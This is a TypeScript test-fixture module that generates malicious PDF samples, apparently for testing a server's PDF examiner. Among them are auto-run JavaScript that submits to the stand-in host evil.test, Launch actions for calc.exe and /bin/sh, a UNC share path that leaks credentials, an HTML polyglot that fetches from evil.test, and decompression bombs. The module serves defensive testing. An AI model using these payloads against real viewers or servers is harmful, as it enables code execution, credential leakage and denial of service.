@@ -1,0 +1,346 @@
+import { createHash } from 'node:crypto';
+import { constants, deflateRawSync, deflateSync } from 'node:zlib';
+
+/** A file as somebody might upload it to harm the server, or those who open it. */
+export interface HostilePdf {
+  readonly name: string;
+  /** Where ISO 32000-2 has what it abuses, or another source. */
+  readonly source: string;
+  readonly bytes: Buffer;
+  /** Codes of what an examination says. */
+  readonly finds: ReadonlyArray<string>;
+  /** Null when nobody can count them. */
+  readonly pages: number | null;
+}
+
+type PdfObject = string | Buffer;
+
+/** A file of these objects, the first of which is the catalog (§7.5). */
+function fileOf(objects: ReadonlyArray<PdfObject>, { trailer = '', afterHeader = '' } = {}): Buffer {
+  const parts: Array<Buffer> = [Buffer.from(`%PDF-1.7\n${afterHeader}`)];
+  const offsets: Array<number> = [];
+  let length = parts[0]?.length ?? 0;
+  const add = (part: PdfObject) => {
+    const bytes = Buffer.from(part as string, 'latin1');
+    parts.push(bytes);
+    length += bytes.length;
+  };
+  objects.forEach((object, at) => {
+    offsets.push(length);
+    add(`${at + 1} 0 obj\n`);
+    add(object);
+    add('\nendobj\n');
+  });
+  const xref = length;
+  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
+  add(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines.join('')}`);
+  add(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${xref}\n%%EOF\n`);
+  return Buffer.concat(parts);
+}
+
+const stream = (dict: string, bytes: Uint8Array): Buffer =>
+  Buffer.concat([
+    Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`),
+    bytes,
+    Buffer.from('\nendstream'),
+  ]);
+
+interface OnePage {
+  /** Entries of the catalog, and of the page. */
+  readonly catalog?: string;
+  readonly page?: string;
+  /** Further objects, from number 4. */
+  readonly more?: ReadonlyArray<PdfObject>;
+  readonly trailer?: string;
+  readonly afterHeader?: string;
+}
+
+export function onePage({ catalog = '', page = '', more = [], ...rest }: OnePage = {}): Buffer {
+  return fileOf(
+    [
+      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] ${page} >>`,
+      ...more,
+    ],
+    rest,
+  );
+}
+
+const withPages = (pages: string, ...more: ReadonlyArray<PdfObject>) =>
+  fileOf(['<< /Type /Catalog /Pages 2 0 R >>', pages, ...more]);
+const leaf = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>';
+
+/** An action on a link that fills the page. */
+const link = (action: string) =>
+  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << ${action} >> >>]`;
+
+const script = '/S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("http://evil.test/js"\\);)';
+
+/** Files that make a viewer do something, each leading to a host that nobody may ask. */
+export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf> {
+  const file = `<< /Type /Filespec /FS /URL /F (${evil}/file) >>`;
+  const of = (name: string, source: string, finds: ReadonlyArray<string>, shape: OnePage): HostilePdf => ({
+    name,
+    source,
+    finds,
+    bytes: onePage(shape),
+    pages: 1,
+  });
+  return [
+    of('a script when it opens', '§12.6.4.17', ['pdf-scripts'], { catalog: `/OpenAction << ${script} >>` }),
+    of('a script in the tree of names', '§7.7.4', ['pdf-scripts'], {
+      catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`,
+    }),
+    of('a script in a link', '§12.5.6.5', ['pdf-scripts'], { page: link(script) }),
+    of('a script when a page opens', '§12.6.3', ['pdf-scripts'], { page: `/AA << /O << ${script} >> >>` }),
+    of('a script whose name is in disguise', '§7.3.5', ['pdf-scripts'], {
+      catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
+    }),
+    of('a script in an object stream', '§7.5.7', ['pdf-scripts'], {
+      more: [
+        stream(
+          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
+          deflateSync('9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
+        ),
+      ],
+    }),
+    of('a script of a form field', '§12.7.6.3', ['pdf-scripts'], {
+      catalog: '/AcroForm << /Fields [4 0 R] >>',
+      page: '/Annots [4 0 R]',
+      more: [
+        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [0 0 99 99] /AA << /C << ${script} >> >> >>`,
+      ],
+    }),
+    of('a program to start', '§12.6.4.6', ['pdf-launch'], {
+      catalog: '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
+    }),
+    of('a program to start by a link', '§12.6.4.6', ['pdf-launch'], {
+      page: link('/S /Launch /F (/bin/sh)'),
+    }),
+    of('a form that sends itself', '§12.7.6.2', ['pdf-sends-data'], {
+      page: `/AA << /O << /S /SubmitForm /F ${file} /Flags 4 >> >>`,
+    }),
+    of('data that is imported', '§12.7.6.4', ['pdf-sends-data'], {
+      catalog: `/OpenAction << /S /ImportData /F ${file} >>`,
+    }),
+    of('an address that opens by itself', '§12.6.4.8', ['pdf-auto-link'], {
+      catalog: `/OpenAction << /S /URI /URI (${evil}/open) >>`,
+    }),
+    of('an address when a page opens', '§12.6.3', ['pdf-auto-link'], {
+      page: `/AA << /O << /S /URI /URI (${evil}/page) >> >>`,
+    }),
+    of('a share of Windows, which is told who asks', '§12.6.4.3', ['pdf-other-files'], {
+      catalog: '/OpenAction << /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) >>',
+    }),
+    of('a content of a page that lies elsewhere', '§7.3.8.2', ['pdf-other-files'], {
+      page: '/Contents 4 0 R',
+      more: [stream(`/F ${file}`, Buffer.alloc(0))],
+    }),
+    of('a font that lies elsewhere', '§9.9', ['pdf-other-files'], {
+      page: '/Contents 7 0 R /Resources << /Font << /F1 4 0 R >> >>',
+      more: [
+        '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 5 0 R >>',
+        '<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontBBox [0 0 1 1] /FontFile2 6 0 R >>',
+        stream(`/F ${file}`, Buffer.alloc(0)),
+        stream('', Buffer.from('BT /F1 24 Tf 9 9 Td (A) Tj ET')),
+      ],
+    }),
+    of('a file inside', '§7.11.4', ['pdf-attachments'], {
+      catalog: '/Names << /EmbeddedFiles << /Names [(a.html) 4 0 R] >> >>',
+      more: [
+        '<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>',
+        stream(
+          '/Type /EmbeddedFile /Filter /FlateDecode',
+          deflateSync(`<script src="${evil}/embedded"></script>`),
+        ),
+      ],
+    }),
+    of('a form of XFA, which is a program', 'ISO 32000-1 §12.7.8', ['pdf-xfa'], {
+      catalog: '/AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true',
+      more: [
+        stream(
+          '',
+          Buffer.from(
+            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field><ui><exData contentType="text/html"><img src="${evil}/xfa"/></exData></ui></field></subform></template></xdp:xdp>`,
+          ),
+        ),
+      ],
+    }),
+    of('a page of HTML', 'mimesniff.spec.whatwg.org', ['pdf-polyglot'], {
+      afterHeader: `<!doctype html><script>document.title = 'ran'; fetch('${evil}/html')</script>\n`,
+    }),
+    {
+      name: 'an archive',
+      source: 'APPNOTE.TXT §4.3.16',
+      bytes: Buffer.concat([onePage(), Buffer.from(`PK\u0005\u0006${'\0'.repeat(18)}`, 'latin1')]),
+      finds: ['pdf-polyglot'],
+      pages: 1,
+    },
+  ];
+}
+
+/** Files that are broken, or that open for nobody without a password. */
+export function brokenPdfs(): ReadonlyArray<HostilePdf> {
+  const whole = onePage({ more: ['(x)'.repeat(200)] });
+  return [
+    {
+      name: 'nothing but its frame',
+      source: '§7.5.2',
+      bytes: Buffer.from('%PDF-1.7\nnothing\n%%EOF\n'),
+      finds: ['pdf-unreadable'],
+      pages: null,
+    },
+    {
+      name: 'a file that was cut off',
+      source: '§7.5.5',
+      bytes: Buffer.concat([whole.subarray(0, 100), Buffer.from('\n%%EOF\n')]),
+      finds: ['pdf-unreadable'],
+      pages: null,
+    },
+    {
+      name: 'no pages',
+      source: '§7.7.3',
+      bytes: withPages('<< /Type /Pages /Kids [] /Count 0 >>'),
+      finds: ['pdf-empty'],
+      pages: 0,
+    },
+    {
+      name: 'a password to open it',
+      source: '§7.6.4',
+      bytes: encrypted({ user: 'secret', owner: 'owner' }),
+      finds: ['pdf-password'],
+      pages: null,
+    },
+    {
+      name: 'a password to change it',
+      source: '§7.6.4',
+      bytes: encrypted({ user: '', owner: 'owner' }),
+      finds: ['pdf-encrypted'],
+      pages: 1,
+    },
+    {
+      name: 'a million pages, as it says',
+      source: '§7.7.3.2',
+      bytes: withPages('<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>', leaf),
+      finds: [],
+      pages: 1,
+    },
+  ];
+}
+
+/** Files that are small, and too much for whoever opens them. */
+export function costlyPdfs(): ReadonlyArray<HostilePdf> {
+  const bomb = deflateSync(zeros(2 ** 30), { level: 9 });
+  const tree = (levels: number) =>
+    Array.from(
+      { length: levels },
+      (_, at) => `<< /Type /Pages /Kids [${`${at + 3} 0 R `.repeat(10)}] /Count 10 >>`,
+    );
+  return [
+    {
+      name: 'a gigabyte of zeros, deflated twice, for an object stream',
+      source: '§7.5.7',
+      bytes: onePage({
+        more: [stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', bomb)],
+      }),
+      finds: ['pdf-not-examined'],
+      pages: null,
+    },
+    {
+      name: 'a gigabyte of zeros, deflated twice, for a page',
+      source: '§7.4.4',
+      bytes: onePage({
+        page: '/Contents 4 0 R',
+        more: [stream('/Filter [/FlateDecode /FlateDecode]', bomb)],
+      }),
+      finds: [],
+      pages: 1,
+    },
+    {
+      name: 'ten thousand pages',
+      source: '§7.7.3.2',
+      bytes: withPages(`<< /Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000 >>`, leaf),
+      finds: [],
+      pages: 10_000,
+    },
+    {
+      name: 'a tree of ten thousand million pages',
+      source: '§7.7.3.2',
+      bytes: withPages(...(tree(10) as [string]), leaf),
+      finds: ['pdf-not-examined'],
+      pages: null,
+    },
+    {
+      name: 'a tree of pages that is its own branch',
+      source: '§7.7.3.2',
+      bytes: withPages('<< /Type /Pages /Kids [2 0 R] /Count 1 >>'),
+      finds: ['pdf-unreadable'],
+      pages: null,
+    },
+    {
+      name: 'arrays in arrays in arrays',
+      source: '§7.3.6',
+      bytes: onePage({ more: ['['.repeat(200_000) + ']'.repeat(200_000)] }),
+      finds: ['pdf-not-examined'],
+      pages: 1,
+    },
+    {
+      name: 'a table of two thousand million objects',
+      source: '§7.5.8',
+      bytes: onePage({
+        more: [
+          stream(
+            '/Type /XRef /Size 2147483647 /Index [0 2147483647] /W [1 4 2] /Root 1 0 R',
+            Buffer.alloc(70),
+          ),
+        ],
+      }),
+      finds: ['pdf-not-examined'],
+      pages: null,
+    },
+  ];
+}
+
+/** The stream that deflates so many zeros (RFC 1950, 1951), put together from one block of them. */
+function zeros(count: number): Buffer {
+  const blockBytes = 2 ** 20;
+  const block = deflateRawSync(Buffer.alloc(blockBytes), { finishFlush: constants.Z_FULL_FLUSH });
+  const blocks = Array.from({ length: count / blockBytes }, () => block);
+  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, deflateRawSync(''), Buffer.alloc(4)]);
+}
+
+/** Encrypted by the first of the standard handlers, which is the shortest: RC4 of 40 bits, revision 2 (§7.6.4.3, §7.6.4.4). */
+function encrypted({ user, owner }: { user: string; owner: string }): Buffer {
+  const padding = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
+  const padded = (password: string) => Buffer.concat([Buffer.from(password), padding]).subarray(0, 32);
+  const key = (...parts: ReadonlyArray<Buffer>) =>
+    createHash('md5').update(Buffer.concat(parts)).digest().subarray(0, 5);
+  const id = Buffer.alloc(16, 7);
+  const permissions = Buffer.from([0xfc, 0xff, 0xff, 0xff]);
+  const o = rc4(key(padded(owner)), padded(user));
+  const u = rc4(key(padded(user), o, permissions, id), padding);
+  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
+  return onePage({
+    trailer: `/ID [${hex(id)} ${hex(id)}] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${hex(o)} /U ${hex(u)} >>`,
+  });
+}
+
+/** OpenSSL has it no longer. */
+function rc4(key: Buffer, data: Buffer): Buffer {
+  const state = Array.from({ length: 256 }, (_, at) => at);
+  const swap = (a: number, b: number) => {
+    [state[a], state[b]] = [state[b] as number, state[a] as number];
+  };
+  for (let i = 0, j = 0; i < 256; i += 1) {
+    j = (j + (state[i] as number) + (key[i % key.length] as number)) & 255;
+    swap(i, j);
+  }
+  let [i, j] = [0, 0];
+  return data.map((byte) => {
+    i = (i + 1) & 255;
+    j = (j + (state[i] as number)) & 255;
+    swap(i, j);
+    return byte ^ (state[((state[i] as number) + (state[j] as number)) & 255] as number);
+  }) as Buffer;
+}
